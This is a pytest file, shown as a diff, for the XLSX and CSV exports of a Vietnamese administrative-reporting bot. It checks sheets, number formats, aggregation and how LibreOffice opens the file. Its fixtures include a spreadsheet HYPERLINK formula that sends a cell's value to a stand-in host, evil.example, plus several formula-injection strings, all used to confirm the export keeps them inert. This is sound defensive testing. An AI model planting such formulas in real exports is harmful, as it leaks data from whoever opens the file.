@@ -1,0 +1,500 @@
+"""The export workbook read back with openpyxl, the CSV, the file name, LibreOffice opening it."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import functools
+import io
+import os
+import shutil
+import subprocess
+from collections.abc import Iterator, Sequence
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+from zoneinfo import ZoneInfo
+
+import openpyxl
+import pytest
+from openpyxl.utils.escape import unescape
+
+from cchc_bot.aggregation import (
+    NOT_ARISEN,
+    ExportData,
+    Figure,
+    ReminderRecord,
+    UnitReport,
+)
+from cchc_bot.calendar import ReportingPeriod, period_by_code
+from cchc_bot.config.loading import load_configuration
+from cchc_bot.config.questionnaire import Questionnaire
+from cchc_bot.settings import bundled_config_dir
+from cchc_bot.workbook import (
+    CSV_BOM,
+    SHEET_NAMES,
+    district_slug,
+    export_filename,
+    write_csv,
+    write_xlsx,
+)
+
+TZ = ZoneInfo("Asia/Ho_Chi_Minh")
+UTC = dt.UTC
+EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
+INJECTIONS = ("=1+1", "@SUM(A1)", "-2+3", "\tx", "+1", "\rx")
+
+QUESTIONNAIRE = Questionnaire.model_validate(
+    {
+        "version": "test",
+        "sections": [
+            {
+                "code": "SO",
+                "title": "1. Số liệu",
+                "indicators": [
+                    {"id": "cnt", "label": "Số văn bản đã ban hành", "type": "integer",
+                     "unit": "văn bản", "target": {"op": ">=", "value": 10}},
+                    {"id": "dec", "label": "Kinh phí", "type": "decimal", "decimals": 2,
+                     "unit": "triệu đồng"},
+                    {"id": "pct", "label": "Mức độ hoàn thành", "type": "percent"},
+                    {"id": "rat", "label": "Tỷ lệ hồ sơ đúng hạn", "type": "ratio",
+                     "numerator": {"label": "Số hồ sơ đúng hạn"},
+                     "denominator": {"label": "Số hồ sơ đã giải quyết"},
+                     "target": {"op": ">=", "value": 100}},
+                    {"id": "rat_na", "label": "Tỷ lệ phản ánh đã xử lý", "type": "ratio",
+                     "numerator": {"label": "Đã xử lý"}, "denominator": {"from": "cnt"}},
+                ],
+            },
+            {
+                "code": "KHAC",
+                "title": "2. Khác",
+                "indicators": [
+                    {"id": "yn", "label": "Có quy chế chi tiêu nội bộ", "type": "boolean"},
+                    {"id": "txt", "label": "Kiến nghị", "type": "text", "required": False},
+                ],
+            },
+        ],
+    }
+)  # fmt: skip
+ALL = frozenset(indicator.id for _, indicator in QUESTIONNAIRE.indicators())
+SUBMITTED_AT = dt.datetime(2024, 3, 10, 2, 30, tzinfo=UTC)
+LOCAL_SUBMITTED_AT = dt.datetime(2024, 3, 10, 9, 30, tzinfo=TZ).replace(tzinfo=None)
+
+
+@functools.cache
+def q1() -> ReportingPeriod:
+    """Quý I/2024 of the bundled schedule."""
+    schedule = load_configuration(bundled_config_dir()).schedule
+    return period_by_code(schedule, "2024-Q1", TZ)
+
+
+def unit(code: str, name: str, state: str = "submitted", **fields: Any) -> UnitReport:
+    """A unit of kind xã asked every indicator."""
+    fields.setdefault("applicable", ALL)
+    return UnitReport(code=code, name=name, kind="xa", state=state, **fields)
+
+
+def sample() -> ExportData:
+    """Four units: two submitted (one late, one with hostile text), one draft, one returned."""
+    units = [
+        unit(
+            "xa_a",
+            EVIL_NAME,
+            submitted_at=SUBMITTED_AT,
+            submitted_by="Nguyễn Văn A",
+            version=2,
+            figures={
+                "cnt": Figure.number(1234),
+                "dec": Figure.number("12.5"),
+                "pct": Figure.number("95.5"),
+                "rat": Figure.ratio(1, 2, explanation=INJECTIONS[0]),
+                "rat_na": NOT_ARISEN,
+                "yn": Figure.yes_no(True),
+                "txt": Figure.answer(INJECTIONS[1]),
+            },
+        ),
+        unit(
+            "xa_b",
+            "Xã Đại Ân 2",
+            late=True,
+            submitted_at=SUBMITTED_AT + dt.timedelta(days=3),
+            submitted_by=INJECTIONS[2],
+            version=1,
+            figures={
+                "cnt": Figure.number(6),
+                "dec": Figure.number("0.25"),
+                "pct": Figure.number(80),
+                "rat": Figure.ratio(99, 100, explanation=INJECTIONS[3]),
+                "rat_na": Figure.ratio(0, 0),
+                "yn": Figure.yes_no(False),
+            },
+        ),
+        unit("xa_c", "Xã Liêu Tú", state="draft", late=True),
+        unit(
+            "xa_d",
+            "Xã Tài Văn",
+            state="returned",
+            submitted_at=SUBMITTED_AT,
+            version=1,
+            returned_reason=INJECTIONS[4],
+            figures={"cnt": Figure.number(999_999)},
+            applicable=ALL - {"txt"},
+        ),
+    ]
+    reminders = [
+        ReminderRecord("xa_c", "Trần Thị B", "before_1", SUBMITTED_AT, "sent", SUBMITTED_AT),
+        ReminderRecord("xa_c", "Lê C", "overdue_1", SUBMITTED_AT, "failed", None, INJECTIONS[5]),
+        ReminderRecord("xa_d", "Lê D", "digest-overdue", SUBMITTED_AT, "unreachable"),
+        ReminderRecord("xa_a", "Phạm E", "before_2", SUBMITTED_AT, "skipped"),
+    ]
+    return ExportData(
+        period=q1(),
+        questionnaire=QUESTIONNAIRE,
+        units=units,
+        previous={"xa_a": {"cnt": Figure.number(1000), "rat": Figure.ratio(3, 4)}},
+        reminders=reminders,
+        generated_at=dt.datetime(2024, 3, 11, 20, 0, tzinfo=UTC),  # 03:00 on 12/3 locally
+        district="Huyện Trần Đề",
+        tz=TZ,
+        previous_label="Quý IV/2023",
+    )
+
+
+@pytest.fixture(scope="module")
+def xlsx(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The sample written to a file."""
+    path = tmp_path_factory.mktemp("export") / "export.xlsx"
+    write_xlsx(sample(), path)
+    return path
+
+
+@pytest.fixture(scope="module")
+def book(xlsx: Path) -> Iterator[Any]:
+    """The sample workbook read back by openpyxl."""
+    workbook = openpyxl.load_workbook(xlsx)
+    yield workbook
+    workbook.close()
+
+
+def rows(sheet: Any) -> list[list[Any]]:
+    """A sheet's values, row by row."""
+    return [list(row) for row in sheet.iter_rows(values_only=True)]
+
+
+def header_index(sheet: Any, row: int = 1) -> dict[str, int]:
+    """Column number (1-based) of each header text of a row."""
+    return {cell.value: cell.column for cell in sheet[row] if cell.value is not None}
+
+
+def find_row(sheet: Any, column: int, value: str) -> int:
+    """The first row whose cell in a column holds a value."""
+    for cells in sheet.iter_rows(min_col=column, max_col=column):
+        if cells[0].value == value:
+            return int(cells[0].row)
+    raise AssertionError(f"{value!r} not found")
+
+
+def test_workbook_has_the_five_vietnamese_sheets(book: Any) -> None:
+    assert book.sheetnames == list(SHEET_NAMES)
+    assert SHEET_NAMES == ("Tổng hợp", "Theo đơn vị", "Tình trạng nộp", "Giải trình", "Nhắc nhở")
+
+
+def test_unit_sheet_headers_freeze_and_autofilter(book: Any) -> None:
+    sheet = book["Theo đơn vị"]
+    headers = [cell.value for cell in sheet[1]]
+    assert headers[:4] == ["Tên đơn vị", "Mã đơn vị", "Loại đơn vị", "Tình trạng"]
+    assert headers[4:] == [
+        "cnt · Số văn bản đã ban hành (văn bản)",
+        "dec · Kinh phí (triệu đồng)",
+        "pct · Mức độ hoàn thành (%)",
+        "rat · Tử số: Số hồ sơ đúng hạn",
+        "rat · Mẫu số: Số hồ sơ đã giải quyết",
+        "rat · Tỷ lệ hồ sơ đúng hạn (%)",
+        "rat_na · Tử số: Đã xử lý",
+        "rat_na · Mẫu số: = cnt",
+        "rat_na · Tỷ lệ phản ánh đã xử lý (%)",
+        "yn · Có quy chế chi tiêu nội bộ",
+        "txt · Kiến nghị",
+    ]
+    assert sheet.freeze_panes == "B2"
+    assert sheet.auto_filter.ref == "A1:O5"
+
+
+def test_unit_sheet_figures_are_numbers_with_number_formats(book: Any) -> None:
+    sheet = book["Theo đơn vị"]
+    row = find_row(sheet, 2, "xa_b")
+    col = header_index(sheet)
+    cnt = sheet.cell(row, col["cnt · Số văn bản đã ban hành (văn bản)"])
+    assert (cnt.value, cnt.data_type, cnt.number_format) == (6, "n", "#,##0")
+    dec = sheet.cell(row, col["dec · Kinh phí (triệu đồng)"])
+    assert (dec.value, dec.number_format) == (0.25, "#,##0.00")
+    pct = sheet.cell(row, col["pct · Mức độ hoàn thành (%)"])
+    assert (pct.value, pct.number_format) == (0.8, "0.00%")
+    numerator = sheet.cell(row, col["rat · Tử số: Số hồ sơ đúng hạn"])
+    denominator = sheet.cell(row, col["rat · Mẫu số: Số hồ sơ đã giải quyết"])
+    share = sheet.cell(row, col["rat · Tỷ lệ hồ sơ đúng hạn (%)"])
+    assert (numerator.value, denominator.value) == (99, 100)
+    assert (share.value, share.number_format) == (0.99, "0.00%")
+    assert sheet.cell(row, col["rat_na · Tỷ lệ phản ánh đã xử lý (%)"]).value == "Không phát sinh"
+    assert sheet.cell(row, col["yn · Có quy chế chi tiêu nội bộ"]).value == "Không"
+
+
+def test_every_active_unit_is_listed_and_unsubmitted_ones_are_blank(book: Any) -> None:
+    sheet = book["Theo đơn vị"]
+    table = rows(sheet)[1:]
+    assert [r[1] for r in table] == ["xa_a", "xa_b", "xa_c", "xa_d"]
+    assert [r[3] for r in table] == ["Đã nộp", "Đã nộp", "Đang nhập", "Bị trả lại"]
+    for row in table[2:]:
+        assert all(value is None for value in row[4:])  # a returned report is listed, not summed
+    status = rows(book["Tình trạng nộp"])[1:]
+    assert [r[1] for r in status] == ["xa_a", "xa_b", "xa_c", "xa_d"]
+
+
+def test_hostile_text_stays_text(book: Any) -> None:
+    seen: list[str] = []
+    for sheet in book.worksheets:
+        for line in sheet.iter_rows():
+            for cell in line:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if not isinstance(cell.value, str):
+                    continue
+                # A carriage return is stored as the OOXML escape _x000D_, which Excel and
+                # LibreOffice decode and openpyxl leaves as it is.
+                text = unescape(cell.value)
+                if text == EVIL_NAME or text in INJECTIONS:
+                    assert cell.data_type == "s"
+                    seen.append(text)
+    # Stored exactly as typed, with no apostrophe added.
+    assert set(seen) == {EVIL_NAME, *INJECTIONS}
+
+
+def test_explanations_and_text_answers_by_unit(book: Any) -> None:
+    table = rows(book["Giải trình"])
+    assert table[0] == [
+        "Mã đơn vị",
+        "Tên đơn vị",
+        "Mục",
+        "Mã chỉ tiêu",
+        "Chỉ tiêu",
+        "Loại",
+        "Số liệu của đơn vị",
+        "Chỉ tiêu giao",
+        "Nội dung",
+    ]
+    body = [(r[0], r[3], r[5], r[6], r[7], r[8]) for r in table[1:]]
+    assert body == [
+        ("xa_a", "rat", "Giải trình chỉ tiêu chưa đạt", "1/2 (50 %)", "≥ 100", "=1+1"),
+        ("xa_a", "txt", "Ý kiến của đơn vị", None, None, "@SUM(A1)"),
+        ("xa_b", "rat", "Giải trình chỉ tiêu chưa đạt", "99/100 (99 %)", "≥ 100", "\tx"),
+    ]
+
+
+def test_status_sheet_has_local_datetimes_and_timeliness(book: Any) -> None:
+    sheet = book["Tình trạng nộp"]
+    table = rows(sheet)
+    assert table[0] == [
+        "STT",
+        "Mã đơn vị",
+        "Tên đơn vị",
+        "Loại đơn vị",
+        "Tình trạng",
+        "Thời điểm nộp",
+        "Đúng hạn / muộn",
+        "Người nộp",
+        "Lần nộp",
+        "Lý do trả lại",
+    ]
+    first = sheet.cell(2, 6)
+    assert first.is_date
+    assert first.value == LOCAL_SUBMITTED_AT  # in the local zone, stored without one
+    assert first.number_format == "dd/mm/yyyy hh:mm"
+    assert table[1][6:9] == ["Đúng hạn", "Nguyễn Văn A", 2]
+    assert table[2][6:9] == ["Muộn", "-2+3", 1]
+    assert table[3][4:7] == ["Đang nhập", None, "Quá hạn, chưa nộp"]
+    assert table[4][4] == "Bị trả lại"
+    assert table[4][9] == "+1"
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == "A1:J5"
+
+
+def test_reminder_sheet_lists_sent_failed_and_unreachable(book: Any) -> None:
+    table = rows(book["Nhắc nhở"])
+    assert table[0][:6] == [
+        "Mã đơn vị",
+        "Tên đơn vị",
+        "Người nhận",
+        "Loại nhắc nhở",
+        "Thời điểm dự kiến",
+        "Kết quả",
+    ]
+    assert [(r[0], r[2], r[5]) for r in table[1:]] == [
+        ("xa_c", "Lê C", "Gửi không được"),
+        ("xa_c", "Trần Thị B", "Đã gửi"),
+        ("xa_d", "Lê D", "Không liên lạc được"),
+    ]
+    assert table[1][3] == "Quá hạn 1 ngày làm việc"
+    assert unescape(table[1][7]) == "\rx"
+    assert table[2][4] == LOCAL_SUBMITTED_AT
+
+
+def summary_line(book: Any, indicator_id: str) -> dict[str, Any]:
+    """One indicator's line of "Tổng hợp", by header."""
+    sheet = book["Tổng hợp"]
+    header_row = find_row(sheet, 1, "Mã chỉ tiêu")
+    headers = [cell.value for cell in sheet[header_row]]
+    row = find_row(sheet, 1, indicator_id)
+    cells = sheet[row]
+    return {header: cell for header, cell in zip(headers, cells, strict=False)}
+
+
+def test_summary_header_block(book: Any) -> None:
+    table = rows(book["Tổng hợp"])
+    assert table[0][0] == "TỔNG HỢP KẾT QUẢ THỰC HIỆN CÔNG TÁC CẢI CÁCH HÀNH CHÍNH"
+    assert table[1][0] == "Huyện Trần Đề — Quý I/2024"
+    block = {r[0]: r[1] for r in table[2:6]}
+    assert block == {
+        "Thời gian chốt số liệu": "từ 11/12/2023 đến 10/3/2024",
+        "Hạn nộp báo cáo": "23:59 ngày 11/3/2024",
+        "Thời điểm lập bảng": "03:00 ngày 12/3/2024",
+        "Đơn vị đã nộp": "2/4 (đúng hạn 1, muộn 1); bị trả lại 1",
+    }
+    assert any("trung bình cộng" in str(r[1]) for r in table)  # percent figures are averaged
+
+
+def test_summary_ratio_is_ratio_of_sums_with_target_and_units(book: Any) -> None:
+    line = summary_line(book, "rat")
+    district = line["Số liệu của huyện"]
+    # 1/2 and 99/100: 100/102 = 98,04 %, not the 74,5 % average of the two ratios.
+    assert district.value == pytest.approx(100 / 102)
+    assert district.number_format == "0.00%"
+    assert (line["Tổng tử số"].value, line["Tổng mẫu số"].value) == (100, 102)
+    assert line["Chỉ tiêu giao"].value == "≥ 100"
+    assert line["Đánh giá"].value == "Chưa đạt"
+    assert line["Đơn vị báo cáo"].value == "2/4"  # the draft and the returned report are due
+    assert line["Kỳ trước (Quý IV/2023)"].value == pytest.approx(0.75)
+
+
+def test_summary_counts_percent_and_not_arisen(book: Any) -> None:
+    cnt = summary_line(book, "cnt")
+    assert (cnt["Số liệu của huyện"].value, cnt["Số liệu của huyện"].number_format) == (
+        1240,
+        "#,##0",
+    )
+    assert cnt["Đánh giá"].value == "Đạt"
+    assert cnt["Kỳ trước (Quý IV/2023)"].value == 1000
+    pct = summary_line(book, "pct")
+    assert pct["Số liệu của huyện"].value == pytest.approx(0.8775)  # mean of 95,5 % and 80 %
+    assert (pct["Thấp nhất"].value, pct["Cao nhất"].value) == (0.8, 0.955)
+    not_arisen = summary_line(book, "rat_na")
+    assert not_arisen["Số liệu của huyện"].value == "Không phát sinh"
+    assert not_arisen["Trong đó không phát sinh"].value == 2
+    assert not_arisen["Đánh giá"].value == "—"
+    yn = summary_line(book, "yn")
+    assert yn["Số đơn vị theo câu trả lời"].value == "Có: 1; Không: 1"
+
+
+def test_summary_has_section_title_rows(book: Any) -> None:
+    firsts = [r[0] for r in rows(book["Tổng hợp"])]
+    assert firsts.index("1. Số liệu") < firsts.index("cnt") < firsts.index("2. Khác")
+
+
+def test_workbook_can_be_written_to_a_stream() -> None:
+    buffer = io.BytesIO()
+    write_xlsx(sample(), buffer)
+    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()), read_only=True)
+    assert workbook.sheetnames == list(SHEET_NAMES)
+    workbook.close()
+
+
+def test_export_file_name() -> None:
+    data = sample()
+    assert export_filename(data.period, data.generated_at) == "CCHC_2024-Q1_TranDe_20240312.xlsx"
+    assert (
+        export_filename(
+            data.period, data.generated_at, district="Thị xã Vĩnh Châu", extension=".csv"
+        )
+        == "CCHC_2024-Q1_VinhChau_20240312.csv"
+    )
+
+
+@pytest.mark.parametrize(
+    ("district", "slug"),
+    [
+        ("Huyện Trần Đề", "TranDe"),
+        ("Thành phố Sóc Trăng", "SocTrang"),
+        ("huyện đảo Lý Sơn", "DaoLySon"),
+    ],
+)
+def test_district_slug(district: str, slug: str) -> None:
+    assert district_slug(district) == slug
+
+
+def csv_text(data: ExportData) -> str:
+    """The CSV export as text."""
+    stream = io.StringIO(newline="")
+    write_csv(data, stream)
+    return stream.getvalue()
+
+
+def test_csv_is_the_unit_table_with_bom_and_neutralised_text() -> None:
+    text = csv_text(sample())
+    assert text.startswith(CSV_BOM)
+    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
+    table = list(csv.reader(io.StringIO(text[1:])))
+    assert table[0][:4] == ["Tên đơn vị", "Mã đơn vị", "Loại đơn vị", "Tình trạng"]
+    assert len(table) == 1 + len(sample().units)
+    first, second = table[1], table[2]
+    assert first[0] == "'" + EVIL_NAME
+    assert first[4:10] == ["1234", "12.5", "95.50", "1", "2", "50.00"]
+    assert second[4:10] == ["6", "0.25", "80.00", "99", "100", "99.00"]
+    assert table[3][4:] == [""] * (len(table[0]) - 4)
+
+
+def test_libreoffice_opens_the_workbook_without_repair(xlsx: Path, tmp_path: Path) -> None:
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    if soffice is None:
+        if os.environ.get("CI") == "true":
+            pytest.fail("soffice is required under CI=true (apt-get install libreoffice-calc)")
+        pytest.skip("soffice is not installed")
+    profile = (tmp_path / "profile").as_uri()
+    result = subprocess.run(
+        [
+            soffice,
+            f"-env:UserInstallation={profile}",
+            "--headless",
+            "--norestore",
+            "--convert-to",
+            "pdf",
+            "--outdir",
+            str(tmp_path),
+            str(xlsx),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=180,
+        check=False,
+    )
+    assert result.returncode == 0, result.stderr
+    pdf = tmp_path / "export.pdf"
+    assert pdf.exists(), result.stdout + result.stderr
+    assert pdf.read_bytes().startswith(b"%PDF")
+    for line in result.stderr.lower().splitlines():
+        # LibreOffice warns about Java on machines without it; that is not about the file.
+        if "javaldx" in line:
+            continue
+        assert "repair" not in line, result.stderr
+        assert "error" not in line, result.stderr
+        assert "corrupt" not in line, result.stderr
+
+
+def summed(values: Sequence[Any]) -> Decimal:
+    """Sum of the numeric cells of a column."""
+    return sum((Decimal(str(v)) for v in values if isinstance(v, int | float)), Decimal(0))
+
+
+def test_unit_sheet_column_sums_match_the_district_totals(book: Any) -> None:
+    units = book["Theo đơn vị"]
+    col = header_index(units)
+    column = col["cnt · Số văn bản đã ban hành (văn bản)"]
+    values = [row[column - 1] for row in rows(units)[1:]]
+    assert summed(values) == summary_line(book, "cnt")["Số liệu của huyện"].value
